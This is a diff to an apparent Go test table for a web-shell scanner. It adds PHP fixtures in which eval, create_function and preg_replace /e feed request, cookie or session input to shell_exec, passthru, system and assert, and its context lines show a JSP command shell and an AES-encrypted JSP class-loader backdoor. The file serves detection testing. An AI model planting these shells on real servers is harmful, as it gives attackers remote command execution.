@@ -57,6 +57,13 @@ $data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])
 		{"preg_replace /e", "/var/www/html/p.php", `<?php preg_replace('/.*/e', $_POST['code'], ''); ?>`, RuleCode, "/e"},
 		{"uploaded file included", "/var/www/html/i.php", `<?php include($_FILES['f']['tmp_name']); ?>`, RuleInclude, "uploaded file"},
 		{"request-named include", "/var/www/html/i2.php", `<?php $p = $_GET['page']; require $p; ?>`, RuleInclude, "require"},
+		// Code handed to a sink as a literal runs in the page's scope.
+		{"eval of a literal", "/var/www/html/l1.php", `<?php eval('$t = $_SERVER["HTTP_X_T"]; shell_exec($t);'); ?>`, RuleCommand, "(decoded: code literal)"},
+		{"eval of a heredoc variable", "/var/www/html/l2.php", "<?php\n$body = <<<BODY\n\\$f = 'pass' . 'thru';\n\\$f(\\$_POST['q']);\nBODY;\neval($body);\n", RuleCommand, "passthru()"},
+		{"/e replacement reads the page's variable", "/var/www/html/l3.php", `<?php $in = $_COOKIE['c']; @preg_replace("#.+#e", '@'.'eval($in)', 'x'); ?>`, RuleCode, "eval()"},
+		{"create_function literal body", "/var/www/html/l4.php", `<?php $g = $_REQUEST['g']; $f = create_function('', 'system($GLOBALS["g"]); popen($g, "r");'); $f(); ?>`, RuleCommand, ""},
+		{"session relay into a /e literal", "/var/www/html/l5.php", `<?php session_start(); $_SESSION['v'] = $_POST['v']; preg_replace('/z/e', 'assert($_SESSION["v"])', 'z'); ?>`, RuleCode, "assert()"},
+		{"literal code without request input", "/var/www/html/l6.php", `<?php $n = $_GET['n']; assert('$n > 0'); eval('return 1 + 2;'); echo preg_replace('/(\w+)/e', 'strtoupper("\\1")', 'abc'); ?>`, "", ""},
 		{"hidden eval of a constant", "/var/www/html/h.php", `<?php eval(base64_decode('ZWNobyAiaGVsbG8gd29ybGQiOyBmdW5jdGlvbiBmKCkgeyByZXR1cm4gMTsgfQ==')); ?>`, RuleHidden, "base64"},
 		{"JSP parameter", "/srv/tomcat/webapps/ROOT/cmd.jsp", `<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); %>`, RuleCommand, "Runtime.exec()"},
 		{"JSP class loader", "/srv/tomcat/webapps/ROOT/b.jsp", `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`,
